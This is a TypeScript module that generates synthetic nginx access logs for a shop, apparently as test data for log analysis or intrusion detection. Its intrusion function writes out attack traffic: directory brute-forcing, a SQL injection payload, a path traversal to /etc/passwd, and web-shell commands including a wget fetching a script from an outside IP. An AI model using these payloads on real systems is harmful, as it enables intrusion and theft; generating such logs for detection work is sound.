import { intruder, type LineSource, webStamp } from "./line-source.ts";
import { addressAt, hexText, type Random } from "./random.ts";

const platforms = [
  "(Windows NT 10.0; Win64; x64)",
  "(Macintosh; Intel Mac OS X 10_15_7)",
  "(X11; Linux x86_64)",
  "(iPhone; CPU iPhone OS 18_2 like Mac OS X)",
  "(Linux; Android 15; 2412DPC0AG)",
];
const robots = [
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "curl/8.5.0",
  "Go-http-client/1.1",
];
const probes = [
  "/.env",
  "/wp-login.php",
  "/phpmyadmin/",
  "/.git/config",
  "/admin/login",
  "/actuator/health",
  "/boaform/admin",
];
const sections = [
  "product",
  "news",
  "user",
  "cart",
  "search",
  "help",
  "api/v2/items",
  "static/js",
  "static/css",
  "img",
];

/** nginx `access.log` (combined) of a shop: pages, assets, search, an API, robots and the scans everybody gets. */
export function accessLines(random: Random): LineSource {
  const agents = Array.from({ length: 300 }, (_, at) => {
    const platform = platforms[at % platforms.length] ?? "";
    return `Mozilla/5.0 ${platform} AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${110 + (at % 33)}.0.${at}.0 Safari/537.36`;
  });
  const put = (
    lines: string[],
    [at, address, request, status, bytes, referrer, agent]: readonly [
      number,
      string,
      string,
      number,
      number,
      string,
      string,
    ],
  ): void => {
    lines.push(`${address} - - [${webStamp(at)}] "${request} HTTP/1.1" ${status} ${bytes} "${referrer}" "${agent}"`);
  };

  const page = (): string => {
    const section = random.pick(sections);
    const item = random.skewed(4000);
    if (section === "search") return `/search?q=%E5%95%86%E5%93%81${item}&page=${1 + random.below(9)}`;
    if (section.startsWith("static")) return `/${section}/app.${(item % 40).toString(16)}f3.${section.slice(7)}`;
    if (section === "img") return `/img/${item}/large.webp`;
    return section.startsWith("api") ? `/${section}/${item}?fields=name,price` : `/${section}/${item}.html`;
  };

  const visit = (at: number, lines: string[]): void => {
    const address = addressAt(random.skewed(120_000));
    const agent = agents[random.skewed(agents.length)] ?? "-";
    const first = page();
    put(lines, [at, address, `GET ${first}`, 200, 800 + random.below(60_000), "-", agent]);
    for (let more = random.below(7); more > 0; more--) {
      const status = random.unit() < 0.92 ? 200 : random.pick([304, 404, 302, 500]);
      put(lines, [
        at,
        address,
        `GET ${page()}`,
        status,
        random.below(90_000),
        `https://shop.example.com${first}`,
        agent,
      ]);
    }
    if (random.unit() > 0.08) return;
    put(lines, [at, address, "POST /api/v2/cart", 201, 120, `https://shop.example.com${first}`, agent]);
  };

  return {
    file: "access.log",
    ordinary(at, lines) {
      const dice = random.unit();
      if (dice < 0.93) visit(at, lines);
      else if (dice < 0.98)
        put(lines, [
          at,
          addressAt(random.below(900)),
          `GET ${page()}`,
          200,
          random.below(40_000),
          "-",
          random.pick(robots),
        ]);
      else
        for (const probe of probes.slice(random.below(probes.length))) {
          put(lines, [
            at,
            addressAt(150_000 + random.skewed(3000)),
            `GET ${probe}`,
            404,
            162,
            "-",
            random.pick(robots),
          ]);
        }
    },
    intrusion(at, lines) {
      const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
      const { address, shell } = intruder;
      for (let tries = 0; tries < 900; tries++) {
        const name = `/${hexText(random, 6)}${random.pick([".php", ".bak", ".zip", "/"])}`;
        put(lines, [at + tries / 10, address, `GET ${name}`, 404, 162, "-", "gobuster/3.6"]);
      }
      const injection = "/product/1.html?id=1%27%20UNION%20SELECT%201,user(),version()--%20-";
      put(lines, [at + 120, address, `GET ${injection}`, 200, 5120, "-", "sqlmap/1.8"]);
      put(lines, [at + 200, address, "GET /download?file=../../../../etc/passwd", 200, 1843, "-", agent]);
      put(lines, [at + 300, address, "POST /upload.php", 200, 88, "-", agent]);
      for (const [step, command] of ["id", "uname -a", "cat /etc/passwd", "wget http://198.51.100.7/x.sh"].entries()) {
        const request = `GET ${shell}?cmd=${encodeURIComponent(command)}`;
        put(lines, [at + 310 + step * 7, address, request, 200, 64 + command.length, "-", agent]);
      }
    },
  };
}
